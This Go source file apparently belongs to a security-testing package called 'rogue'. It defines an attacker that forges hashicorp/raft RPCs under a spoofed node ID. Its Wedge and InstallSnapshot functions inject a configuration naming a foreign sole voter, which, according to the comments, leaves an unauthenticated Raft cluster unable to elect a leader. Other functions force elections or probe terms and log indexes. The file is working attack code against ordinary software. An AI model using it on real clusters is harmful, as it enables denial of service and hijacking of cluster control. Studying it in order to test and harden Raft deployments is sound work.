package rogue

import (
	"bytes"
	"io"

	"github.com/hashicorp/go-hclog"
	"github.com/hashicorp/raft"
)

// Result is what one RPC revealed. A refused RPC has Err set and everything else zero.
type Result struct {
	// Term is the term in the response (the target's current term).
	Term uint64
	// LastLog is an AppendEntries response's last log index.
	LastLog uint64
	// Success is an AppendEntries' or InstallSnapshot's success, or a vote's grant.
	Success bool
	// Err is the transport or RPC error.
	Err error
}

// Learned reports whether the target revealed anything.
func (r Result) Learned() bool { return r.Term != 0 || r.LastLog != 0 || r.Success }

// Attacker sends raft RPCs to Raft ports, claiming ID (and Addr) in their headers.
type Attacker struct {
	Dialer Dialer
	// ID is the node name the RPC headers claim (e.g. a real node's); Addr the Raft address.
	ID, Addr string
}

func (a *Attacker) header() raft.RPCHeader {
	return raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte(a.ID), Addr: []byte(a.Addr)}
}

func (a *Attacker) target(addr string) (raft.ServerID, raft.ServerAddress) {
	return raft.ServerID("target"), raft.ServerAddress(addr)
}

// RequestVote asks target to vote for the attacker in term.
func (a *Attacker) RequestVote(target string, term uint64) Result {
	nt := a.Dialer.transport()
	defer nt.Close()
	id, addr := a.target(target)
	var resp raft.RequestVoteResponse
	err := nt.RequestVote(id, addr, &raft.RequestVoteRequest{RPCHeader: a.header(), Term: term,
		LastLogIndex: 1 << 40, LastLogTerm: term}, &resp)
	if err != nil {
		return Result{Err: err}
	}
	return Result{Term: resp.Term, Success: resp.Granted}
}

// RequestPreVote asks target whether it would vote for the attacker in term.
func (a *Attacker) RequestPreVote(target string, term uint64) Result {
	nt := a.Dialer.transport()
	defer nt.Close()
	id, addr := a.target(target)
	var resp raft.RequestPreVoteResponse
	err := nt.RequestPreVote(id, addr, &raft.RequestPreVoteRequest{RPCHeader: a.header(), Term: term,
		LastLogIndex: 1 << 40, LastLogTerm: term}, &resp)
	if err != nil {
		return Result{Err: err}
	}
	return Result{Term: resp.Term, Success: resp.Granted}
}

// Probe sends an AppendEntries with Term 0: raft answers with its current term and last log index, and
// changes nothing.
func (a *Attacker) Probe(target string) Result {
	return a.appendEntries(target, &raft.AppendEntriesRequest{RPCHeader: a.header()})
}

// Wedge probes target, then sends an AppendEntries of the next term carrying a configuration entry whose
// only voter is foreignID at foreignAddr. An insecure raft accepts it, adopts the configuration at once, and
// never elects a leader again until `vipd recover`.
func (a *Attacker) Wedge(target, foreignID, foreignAddr string) Result {
	p := a.Probe(target)
	if p.Err != nil {
		return p
	}
	cfg := raft.Configuration{Servers: []raft.Server{{Suffrage: raft.Voter, ID: raft.ServerID(foreignID),
		Address: raft.ServerAddress(foreignAddr)}}}
	term := p.Term + 1
	return a.appendEntries(target, &raft.AppendEntriesRequest{
		RPCHeader: a.header(),
		Term:      term,
		Entries: []*raft.Log{{Index: p.LastLog + 1, Term: term, Type: raft.LogConfiguration,
			Data: raft.EncodeConfiguration(cfg)}},
		LeaderCommitIndex: p.LastLog + 1,
	})
}

func (a *Attacker) appendEntries(target string, req *raft.AppendEntriesRequest) Result {
	nt := a.Dialer.transport()
	defer nt.Close()
	id, addr := a.target(target)
	var resp raft.AppendEntriesResponse
	if err := nt.AppendEntries(id, addr, req, &resp); err != nil {
		return Result{Err: err}
	}
	return Result{Term: resp.Term, LastLog: resp.LastLog, Success: resp.Success}
}

// TimeoutNow tells target to start an election at once (raft's leadership transfer): a follower becomes a
// candidate, skipping pre-vote.
func (a *Attacker) TimeoutNow(target string) Result {
	nt := a.Dialer.transport()
	defer nt.Close()
	id, addr := a.target(target)
	var resp raft.TimeoutNowResponse
	if err := nt.TimeoutNow(id, addr, &raft.TimeoutNowRequest{RPCHeader: a.header()}, &resp); err != nil {
		return Result{Err: err}
	}
	return Result{Success: true}
}

// InstallSnapshot sends target a snapshot of term (0 = the probed term + 1) whose configuration has
// foreignID as its only voter, with data as the FSM state.
func (a *Attacker) InstallSnapshot(target string, term uint64, foreignID, foreignAddr string, data []byte) Result {
	if term == 0 {
		p := a.Probe(target)
		if p.Err != nil {
			return p
		}
		term = p.Term + 1
	}
	cfg := raft.Configuration{Servers: []raft.Server{{Suffrage: raft.Voter, ID: raft.ServerID(foreignID),
		Address: raft.ServerAddress(foreignAddr)}}}
	nt := a.Dialer.transport()
	defer nt.Close()
	id, addr := a.target(target)
	var resp raft.InstallSnapshotResponse
	req := &raft.InstallSnapshotRequest{RPCHeader: a.header(), SnapshotVersion: raft.SnapshotVersionMax, Term: term,
		Leader: []byte(a.Addr), LastLogIndex: 1 << 40, LastLogTerm: term,
		Configuration: raft.EncodeConfiguration(cfg), ConfigurationIndex: 1 << 40, Size: int64(len(data))}
	var r io.Reader = bytes.NewReader(data)
	if err := nt.InstallSnapshot(id, addr, req, &resp, r); err != nil {
		return Result{Err: err}
	}
	return Result{Term: resp.Term, Success: resp.Success}
}

func quietLogger() hclog.Logger {
	return hclog.New(&hclog.LoggerOptions{Name: "rogue", Output: io.Discard, Level: hclog.Off})
}
